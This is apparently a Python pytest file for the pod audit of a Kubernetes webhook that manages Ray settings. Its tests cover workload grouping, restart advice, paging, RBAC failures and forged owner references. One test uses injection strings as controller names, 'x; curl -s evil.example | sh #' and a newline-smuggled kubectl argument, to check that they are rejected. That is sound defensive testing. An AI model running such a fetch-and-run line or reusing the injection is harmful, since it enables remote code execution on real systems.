"""The audit of pods that a fake API server has: what is found, of which workload, and by which requests."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from tests.cluster.fake_api_server import (
    CLUSTERS,
    CONFIG_MAPS,
    DAEMON_SETS,
    DEPLOYMENTS,
    JOBS,
    NAMESPACES,
    PODS,
    RAY_JOBS,
    REPLICA_SETS,
    SERVICES,
    STATEFUL_SETS,
    FakeApiServer,
    running_api_server,
)
from tests.cluster.support import OWN, api_at
from tests.injection.support import container, kuberay_pod, run, snapshot
from tests.injection.support import pod as template
from webhook.cluster import auditor
from webhook.cluster.audit import Audit, audit
from webhook.cluster.auditor import Audited
from webhook.errors import ClusterError, InputError
from webhook.injection.findings import FindingCode
from webhook.injection.snapshot import Snapshot

P = "ray.seedcore.io/"
SETTINGS = {"RAY_HOST": "head", "RAY_NAMESPACE": "lab"}
FIRST = Snapshot(webhook_namespace=OWN)
RESTARTED = {"Deployment": DEPLOYMENTS, "StatefulSet": STATEFUL_SETS, "DaemonSet": DAEMON_SETS}


@pytest.fixture
def fake() -> FakeApiServer:
    server = FakeApiServer()
    server.config_map(OWN, SETTINGS)
    for name in ("apps", OWN, "kube-system"):
        namespace(server, name)
    return server


@pytest.fixture
def url(fake: FakeApiServer) -> Iterator[str]:
    with running_api_server(fake) as url:
        yield url


def namespace(fake: FakeApiServer, name: str, **labels: str) -> None:
    fake.add(
        NAMESPACES, {"metadata": {"name": name, "labels": {P + key.replace("_", "-"): labels[key] for key in labels}}}
    )


def owner(kind: str, name: str, version: str = "apps/v1") -> dict[str, Any]:
    return {"apiVersion": version, "kind": kind, "name": name, "uid": f"{kind}-{name}", "controller": True}


def exists(fake: FakeApiServer, controller: dict[str, Any] | None) -> None:
    """Put what restarts there, too, if `controller` is one."""
    if controller and controller["kind"] in RESTARTED:
        named = {"namespace": "apps", "name": controller["name"], "uid": controller["uid"]}
        fake.add(RESTARTED[controller["kind"]], {"metadata": named})


def add(
    fake: FakeApiServer,
    whole: dict[str, Any],
    name: str = "one",
    *,
    place: str = "apps",
    controller: dict[str, Any] | None = None,
    phase: str = "Running",
    **metadata: Any,
) -> None:
    """Put a pod there as it is, not as the webhook would let it in."""
    owners = [{**owner("Node", "n", "v1"), "controller": False}, controller] if controller else None
    named = {"namespace": place, "name": name, "ownerReferences": owners, **metadata}
    fake.add(PODS, {**whole, "metadata": {**whole["metadata"], **named}, "status": {"phase": phase}})


def treated(whole: dict[str, Any], **settings: str) -> dict[str, Any]:
    """The pod as the webhook lets it in under these settings."""
    return run(whole, snapshot({**SETTINGS, **settings})).pod


def audited(
    url: str, place: str | None = None, *, page: int = 500, names: tuple[str, ...] = ("ray-settings",)
) -> Audit:
    return audit(api_at(url), namespace=place, settings_names=names, first=FIRST, page=page)


def told(found: Audit) -> dict[str, list[tuple[str, list[str]]]]:
    """The findings by workload: code and pods."""
    return {
        f"{item.workload.kind} {item.workload.namespace}/{item.workload.name}": [
            (finding.code.summary, finding.pods) for finding in item.findings.values()
        ]
        for item in found.workloads
    }


def only(found: Audit) -> Audited:
    (item,) = found.workloads
    return item


def test_pods_that_are_right_or_nobodys_are_no_findings(fake: FakeApiServer, url: str) -> None:
    add(fake, treated(template("client")), "client")
    add(fake, template(), "no-role")
    add(fake, template("none"), "none")
    found = audited(url)

    assert (found.is_fine, found.pods, found.concerned, found.workloads) == (True, 3, 2, ())


def test_a_pod_without_a_status_was_missed_and_one_with_it_is_stale(fake: FakeApiServer, url: str) -> None:
    add(fake, template("client"), "missed")
    add(fake, treated(template("worker"), RAY_HOST="before"), "stale")
    found = audited(url)

    assert told(found) == {"Pod apps/missed": [("missed", ["missed"])], "Pod apps/stale": [("stale", ["stale"])]}
    assert not found.is_fine
    (stale,) = found.workloads[1].findings.values()
    assert (stale.differences[0].name, stale.differences[0].before, stale.differences[0].after) == (
        "RAY_HOST",
        "before",
        "head",
    )


@pytest.mark.parametrize("phase", ["Succeeded", "Failed"])
def test_a_pod_that_has_ended_does_not_count(fake: FakeApiServer, url: str, phase: str) -> None:
    add(fake, template("client"), phase=phase)

    assert audited(url).pods == 0


def test_a_pod_that_is_being_deleted_does_not_count(fake: FakeApiServer, url: str) -> None:
    add(fake, template("client"), deletionTimestamp="2026-01-01T00:00:00Z")

    assert audited(url).pods == 0


@pytest.mark.parametrize("place", [OWN, "kube-system", "off"])
def test_namespaces_that_no_pod_is_sent_from_are_left_alone(fake: FakeApiServer, url: str, place: str) -> None:
    namespace(fake, "off", injection="disabled", default_role="client")
    add(fake, template("client"), place=place)
    found = audited(url)

    assert (found.is_fine, found.pods, found.concerned) == (True, 1, 0)


def test_a_namespaces_default_role_makes_clients(fake: FakeApiServer, url: str) -> None:
    namespace(fake, "clients", default_role="client")
    add(fake, template(), "missed", place="clients")
    add(fake, template(None, container(command=["ray", "start", "--head"])), "starter", place="clients")
    found = audited(url)

    assert told(found) == {"Pod clients/missed": [("missed", ["missed"])], "Pod clients/starter": []}
    (warning,) = found.workloads[1].notes
    assert warning.code == "RAY408"


def test_what_a_new_pod_would_be_refused_for_is_told_with_its_code(fake: FakeApiServer, url: str) -> None:
    add(fake, template("Client"))
    item = only(audited(url))
    (finding,) = item.findings.values()

    assert finding.code is FindingCode.WOULD_BE_REFUSED
    assert finding.text.startswith(f'RAY301: annotation {P}role is "Client"; allowed: head, worker, client, none')
    assert item.mend is None


def test_a_warning_alone_is_told_and_no_finding(fake: FakeApiServer, url: str) -> None:
    add(fake, treated(template("client", annotations={"skip-containers": "later"})), "one")
    found = audited(url)

    assert found.is_fine
    ((warning, count),) = only(found).notes.items()
    assert (warning.code, count) == ("RAY403", 1)


def test_pods_are_grouped_by_the_workload_that_people_know(fake: FakeApiServer, url: str) -> None:
    fake.add(
        REPLICA_SETS,
        {
            "metadata": {
                "namespace": "apps",
                "name": "api-1",
                "uid": "ReplicaSet-api-1",
                "ownerReferences": [owner("Deployment", "api")],
            }
        },
    )
    fake.add(
        REPLICA_SETS,
        {
            "metadata": {
                "namespace": "apps",
                "name": "api-2",
                "uid": "ReplicaSet-api-2",
                "ownerReferences": [owner("Deployment", "api")],
            }
        },
    )
    fake.add(REPLICA_SETS, {"metadata": {"namespace": "apps", "name": "lone", "uid": "ReplicaSet-lone"}})
    fake.add(
        JOBS,
        {
            "metadata": {
                "namespace": "apps",
                "name": "night-1",
                "uid": "Job-night-1",
                "ownerReferences": [owner("CronJob", "night", "batch/v1")],
            }
        },
    )
    for number, controller in enumerate(
        (
            owner("ReplicaSet", "api-1"),
            owner("ReplicaSet", "api-2"),
            owner("ReplicaSet", "lone"),
            owner("Job", "night-1", "batch/v1"),
            owner("StatefulSet", "db"),
        )
    ):
        add(fake, template("client"), f"pod-{number}", controller=controller)

    assert told(audited(url, page=2)) == {
        "CronJob apps/night": [("missed", ["pod-3"])],
        "Deployment apps/api": [("missed", ["pod-0", "pod-1"])],
        "ReplicaSet apps/lone": [("missed", ["pod-2"])],
        "StatefulSet apps/db": [("missed", ["pod-4"])],
    }


@pytest.mark.parametrize(
    ("controller", "restart", "text"),
    [
        (owner("Deployment", "api"), "deployment/api", "restart it"),
        (owner("StatefulSet", "db"), "statefulset/db", "restart it"),
        (owner("DaemonSet", "agent"), "daemonset/agent", "restart it"),
        (owner("ReplicaSet", "lone"), None, "delete the pods one by one"),
        (owner("Job", "load", "batch/v1"), None, "run to their end"),
        (owner("Deployment", "api", "example.com/v1"), None, "delete the pods one by one"),
        (None, None, "create it anew"),
    ],
)
def test_each_kind_of_workload_is_mended_in_its_own_way(
    fake: FakeApiServer, url: str, controller: dict[str, Any] | None, restart: str | None, text: str
) -> None:
    exists(fake, controller)
    add(fake, template("client"), controller=controller)
    mend = only(audited(url)).mend

    assert mend is not None
    assert mend.restart == restart
    assert text in mend.text


@pytest.mark.parametrize("kind", [*RESTARTED, "RayCluster"])
@pytest.mark.parametrize("forged", [{"uid": "1-2"}, {"name": "other"}, {}], ids=["uid", "name", "namespace"])
def test_what_a_pod_says_of_its_controller_is_not_believed(
    fake: FakeApiServer, url: str, kind: str, forged: dict[str, str]
) -> None:
    """A restart of somebody else's workload is what a forger would gain."""
    fake.serve_kind(CLUSTERS)
    controller = owner(kind, "api", "ray.io/v1" if kind == "RayCluster" else "apps/v1")
    named = {"namespace": "apps" if forged else "other", "name": "api", "uid": controller["uid"]}
    fake.add({**RESTARTED, "RayCluster": CLUSTERS}[kind], {"metadata": named})
    add(fake, template("client"), controller={**controller, **forged})
    mend = only(audited(url)).mend

    assert mend is not None
    assert (mend.restart, mend.command) == (None, None)
    assert "find out who made these pods" in mend.text


@pytest.mark.parametrize("name", ["a\ndeployment/b --namespace=other", "x; curl -s evil.example | sh #", "", "A"])
def test_a_controller_whose_name_no_object_can_have_is_none(fake: FakeApiServer, url: str, name: str) -> None:
    add(fake, template("client"), controller=owner("Deployment", name, "apps/v0"))

    assert told(audited(url)) == {"Pod apps/one": [("missed", ["one"])]}


def test_a_kind_that_the_cluster_does_not_know_is_no_failure(fake: FakeApiServer, url: str) -> None:
    """Anybody may name it as the owner of a pod, which must not end the audit of all others."""
    add(fake, template("client"), controller=owner("RayCluster", "train", "ray.io/v1"))

    assert told(audited(url)) == {"RayCluster apps/train": [("missed", ["one"])]}


@pytest.mark.parametrize(
    ("owner_kind", "text"),
    [(None, "never its head alone"), ("RayService", "makes a new cluster"), ("RayJob", "submit the RayJob anew")],
)
def test_pods_of_kuberay_are_never_mended_by_a_restart_of_the_head(
    fake: FakeApiServer, url: str, owner_kind: str | None, text: str
) -> None:
    fake.serve_kind(CLUSTERS)
    owners = [owner(owner_kind, "chat", "ray.io/v1")] if owner_kind else None
    fake.add(
        CLUSTERS,
        {"metadata": {"namespace": "apps", "name": "train", "uid": "RayCluster-train", "ownerReferences": owners}},
    )
    controller = owner("RayCluster", "train", "ray.io/v1")
    add(fake, kuberay_pod("head", env={"RAY_ADDRESS": "ray://other:1"}), "train-head", controller=controller)
    add(fake, kuberay_pod("worker"), "train-worker", controller=controller)
    item = only(audited(url))

    assert [finding.pods for finding in item.findings.values()] == [["train-head"]]
    assert item.workload.kind == (owner_kind or "RayCluster")
    assert item.mend is not None
    assert item.mend.restart is None
    assert text in item.mend.text
    assert "delete" not in f"{item.mend.text} {item.mend.command}"


@pytest.mark.parametrize("between", ["RayCluster", "Job"])
def test_pods_of_a_rayjob_belong_to_the_raycronjob_that_made_it(fake: FakeApiServer, url: str, between: str) -> None:
    """KubeRay makes itself the controller of each RayJob (ray-operator/controllers/ray/raycronjob_controller.go)."""
    paths = {"RayCluster": CLUSTERS, "Job": JOBS}
    for path in (CLUSTERS, RAY_JOBS):
        fake.serve_kind(path)
    made = owner(between, "nightly-1-x", "batch/v1" if between == "Job" else "ray.io/v1")
    job, cron = owner("RayJob", "nightly-1", "ray.io/v1"), owner("RayCronJob", "nightly", "ray.io/v1")
    for path, one, above in ((paths[between], made, job), (RAY_JOBS, job, cron)):
        named = {"namespace": "apps", "name": one["name"], "uid": one["uid"], "ownerReferences": [above]}
        fake.add(path, {"metadata": named})
    add(fake, template("client"), controller=made)
    item = only(audited(url))

    assert (item.workload.kind, item.workload.name) == ("RayCronJob", "nightly")
    assert item.mend is not None
    assert item.mend.text == "wait for the next run, or delete the RayJob that runs"


def test_a_restart_is_not_advised_where_new_pods_would_be_refused(fake: FakeApiServer, url: str) -> None:
    controller = owner("StatefulSet", "db")
    add(fake, template("client"), "a", controller=controller)
    add(fake, template("Client"), "b", controller=controller)

    assert only(audited(url)).mend is None


def test_a_container_that_came_late_is_not_mended_by_a_restart(fake: FakeApiServer, url: str) -> None:
    whole = treated(template("client"))
    whole["spec"]["containers"].append(container("sidecar"))
    add(fake, whole, controller=owner("StatefulSet", "db"))
    item = only(audited(url))

    assert [finding.code for finding in item.findings.values()] == [FindingCode.LATE_CONTAINER]
    assert item.mend is None


def test_one_namespace_is_asked_for_by_its_paths_alone(fake: FakeApiServer, url: str) -> None:
    namespace(fake, "other")
    add(fake, template("client"), "mine", controller=owner("ReplicaSet", "r"))
    add(fake, template("client"), "theirs", place="other")
    add(fake, template("client"), "set", controller=owner("StatefulSet", "s"))
    found = audited(url, "apps")

    assert told(found) == {"ReplicaSet apps/r": [("missed", ["mine"])], "StatefulSet apps/s": [("missed", ["set"])]}
    paths = {request.path for request in fake.requests}
    own = "/apis/apps/v1/namespaces/apps"
    assert {"/api/v1/namespaces/apps/pods", f"{own}/replicasets", f"{own}/statefulsets"} <= paths
    assert paths.isdisjoint({PODS, REPLICA_SETS, JOBS, *RESTARTED.values()})


def test_owners_are_listed_only_where_a_finding_needs_them(fake: FakeApiServer, url: str) -> None:
    add(fake, treated(template("client")), controller=owner("ReplicaSet", "r"))
    audited(url)

    assert {request.path for request in fake.requests}.isdisjoint({REPLICA_SETS, JOBS, *RESTARTED.values()})


def test_everything_is_read_by_pages(fake: FakeApiServer, url: str) -> None:
    for number in range(7):
        namespace(fake, f"n-{number}")
        add(fake, template("client"), place=f"n-{number}")
    found = audited(url, page=3)

    assert (found.pods, len(found.workloads)) == (7, 7)
    assert {request.query.get("limit") for request in fake.requests} == {"3"}
    assert fake.count(PODS) == 3
    assert not any(request.is_watch or request.method != "GET" for request in fake.requests)


def test_what_is_kept_is_bounded_and_what_is_counted_is_exact(
    fake: FakeApiServer, url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(auditor, "MAX_WORKLOADS", 2)
    monkeypatch.setattr(auditor, "MAX_NAMES", 3)
    monkeypatch.setattr(auditor, "MAX_TEXTS", 2)
    for number in range(5):
        add(fake, template("client"), f"a-{number}", controller=owner("ReplicaSet", "a"))
        add(fake, template(f"Client{number}"), f"b-{number}", controller=owner("ReplicaSet", "b"))
        add(fake, template("client"), f"c-{number}")
    found = audited(url)
    first, second = (list(item.findings.values()) for item in found.workloads)

    assert [(item.count, item.pods) for item in first] == [(5, ["a-0", "a-1", "a-2"])]
    assert [(item.count, item.text == "") for item in second] == [(1, False), (1, False), (3, True)]
    assert {code.summary: count for code, count in found.counts.items()} == {"missed": 10, "would be refused": 5}
    assert {code.summary: count for code, count in found.beyond.items()} == {"missed": 5}


def test_a_list_that_the_api_server_forgets_in_the_middle_goes_on_as_it_says(fake: FakeApiServer, url: str) -> None:
    for number in range(7):
        add(fake, template("client"), f"pod-{number}")
    fake.faults.forgetful[PODS] = 1
    found = audited(url, page=2)

    assert found.pods == 7
    assert [request.query.get("continue") for request in fake.requests if request.path == PODS] == [
        None,
        "2",
        "rest-2",
        "4",
        "6",
    ]


def test_a_list_that_is_forgotten_for_ever_is_the_clusters_failure(fake: FakeApiServer, url: str) -> None:
    for number in range(3):
        add(fake, template("client"), f"pod-{number}")
    fake.faults.forgetful[PODS] = 99

    with pytest.raises(ClusterError, match="410"):
        audited(url, page=2)


def test_broken_settings_are_a_finding_and_keys_without_effect_are_told(fake: FakeApiServer, url: str) -> None:
    namespace(fake, "other")
    fake.config_map("other", {"RAY_HOST": "h", "RAY_PORT": "x"})
    fake.config_map("apps", {"RAY_HOST": "h", "RAY_ADDRESS": "ray://h:1"})
    found, mine = audited(url), audited(url, "apps")

    assert [(item.code.summary, item.source, item.key) for item in found.settings] == [
        ("settings key without effect", "ConfigMap apps/ray-settings", "RAY_ADDRESS"),
        ("settings broken", "ConfigMap other/ray-settings", "RAY_PORT"),
    ]
    assert (found.is_fine, mine.is_fine) == (False, True)
    assert [item.key for item in mine.settings] == ["RAY_ADDRESS"]


def test_settings_are_those_of_the_names_given(fake: FakeApiServer, url: str) -> None:
    fake.config_map(OWN, {**SETTINGS, "RAY_HOST": "renamed"}, name="settings-v2")
    add(fake, treated(template("client"), RAY_HOST="renamed"))

    assert audited(url, names=("settings-v2", "ray-settings")).is_fine
    assert not audited(url).is_fine


def test_targets_are_read_from_their_specs(fake: FakeApiServer, url: str) -> None:
    fake.serve_kind(CLUSTERS)
    add(fake, treated(template("client", annotations={"cluster": "train"})))
    fake.put(CLUSTERS, "apps", "train", spec={"headGroupSpec": {"headService": {"metadata": {"name": "moved"}}}})
    (finding,) = only(audited(url)).findings.values()

    assert finding.code is FindingCode.STALE
    assert finding.differences[0].after == "moved.apps.svc.cluster.local"


def test_a_namespace_that_is_not_there_is_told(url: str) -> None:
    with pytest.raises(InputError, match='the namespace "nowhere" does not exist'):
        audited(url, "nowhere")


@pytest.mark.parametrize("path", [PODS, NAMESPACES, CONFIG_MAPS, CLUSTERS])
def test_a_list_that_is_refused_is_the_clusters_failure_and_no_empty_answer(
    fake: FakeApiServer, url: str, path: str
) -> None:
    fake.faults.status[path] = 403

    with pytest.raises(ClusterError, match=r"403.*give this identity the right"):
        audited(url)


def limited(fake: FakeApiServer, *more: str) -> None:
    """Whoever asks has rights in apps only, without these either."""
    elsewhere = (f"/api/v1/namespaces/{OWN}/configmaps", PODS, NAMESPACES, CONFIG_MAPS, CLUSTERS, SERVICES)
    fake.faults.status |= dict.fromkeys((*elsewhere, *more), 403)


def within(path: str) -> str:
    return path.replace("/v1/", "/v1/namespaces/apps/")


def test_with_rights_in_one_namespace_its_own_settings_are_enough(fake: FakeApiServer, url: str) -> None:
    fake.config_map("apps", {"RAY_HOST": "own"})
    add(fake, treated(template("client"), RAY_HOST="before"), "stale")
    add(fake, template("Client"), "refused")
    limited(fake)
    found = audited(url, "apps")

    assert {name: codes(one) for name, one in by_name(found).items()} == {"stale": ["RAY702"], "refused": ["RAY703"]}
    open_ = "pods that may have their connection from there are not judged, and aliases from there are not looked for"
    assert found.unseen == (
        f"configmaps/ray-settings in {OWN}: {open_}",
        "rayclusters of other namespaces: pods that name one that is not seen are not judged",
        "rayservices of other namespaces: pods that name one that is not seen are not judged",
    )


def test_nothing_is_judged_by_settings_that_may_not_be_read(fake: FakeApiServer, url: str) -> None:
    add(fake, treated(template("client")), "treated")
    add(fake, template("client"), "bare")
    add(fake, template("client", annotations={"cluster": "elsewhere/train"}), "elsewhere")
    add(fake, template("client", annotations={"cluster": "train"}), "unknown")
    add(fake, template("none"), "none")
    limited(fake, within(CLUSTERS), within(SERVICES))
    found = audited(url, "apps")

    unread = {"treated", "bare", "elsewhere", "unknown"}
    assert {name: codes(one) for name, one in by_name(found).items()} == {name: ["RAY709"] for name in unread}
    assert {(one.mend, tuple(one.notes)) for one in found.workloads} == {(None, ())}
    assert (found.is_fine, found.wrong) == (False, {})


def test_settings_of_the_namespace_that_may_not_be_read_leave_all_open_that_hang_on_them(
    fake: FakeApiServer, url: str
) -> None:
    kubes = kuberay_pod("worker", env={"RAY_ADDRESS": "ray://other:1"})
    add(fake, treated(template("client")), "client")
    add(fake, {**kubes, "metadata": {**kubes["metadata"], "annotations": {}}}, "worker")
    add(fake, template("Client"), "refused")
    fake.faults.status |= {CONFIG_MAPS: 403, within(CONFIG_MAPS): 403}
    found = by_name(audited(url, "apps"))

    assert {name: codes(one) for name, one in found.items()} == {
        "client": ["RAY709"],
        "worker": ["RAY701"],
        "refused": ["RAY703"],
    }


def test_a_namespace_whose_labels_may_not_be_read_is_taken_to_have_none(fake: FakeApiServer, url: str) -> None:
    namespace(fake, "apps", default_role="client")
    add(fake, template(), "plain")
    add(fake, template("client"), "client")
    fake.faults.status |= {NAMESPACES: 403, f"{NAMESPACES}/apps": 403}
    found = audited(url, "apps")

    assert list(by_name(found)) == ["client"]
    assert found.unseen == ("namespaces, nor get apps: it is taken to have none of our labels",)


def test_owners_that_may_not_be_listed_are_taken_at_their_pods_word(fake: FakeApiServer, url: str) -> None:
    add(fake, template("client"), "one", ownerReferences=[owner("StatefulSet", "db")])
    add(fake, template("client"), "two", ownerReferences=[owner("ReplicaSet", "api-1")])
    fake.faults.status |= {within(STATEFUL_SETS): 403, within(REPLICA_SETS): 403}
    found = audited(url, "apps")

    assert [(one.workload.kind, one.is_missing) for one in found.workloads] == [
        ("ReplicaSet", False),
        ("StatefulSet", False),
    ]
    assert found.unseen == (
        "replicasets: those that pods name are taken to be there, and nobody's",
        "statefulsets: those that pods name are taken to be there, and nobody's",
    )


def test_pods_that_may_not_be_listed_are_the_clusters_failure(fake: FakeApiServer, url: str) -> None:
    fake.faults.status[within(PODS)] = 403

    with pytest.raises(ClusterError, match="403"):
        audited(url, "apps")


def by_name(found: Audit) -> dict[str, Audited]:
    return {one.workload.name: one for one in found.workloads}


def codes(one: Audited) -> list[str]:
    return [finding.code.value for finding in one.findings.values()]


@pytest.mark.parametrize(
    "broken",
    [
        {"spec": {"containers": 5}},
        {"metadata": {"name": "one", "labels": 5}},
        {"metadata": {"name": "one", "ownerReferences": [{}]}},
    ],
)
def test_a_pod_that_is_none_is_the_clusters_failure(fake: FakeApiServer, url: str, broken: dict[str, Any]) -> None:
    add(fake, template("client"))
    fake.collections[PODS]["apps", "one"] |= broken

    with pytest.raises(ClusterError, match="has not the form of Kubernetes' API"):
        audited(url)
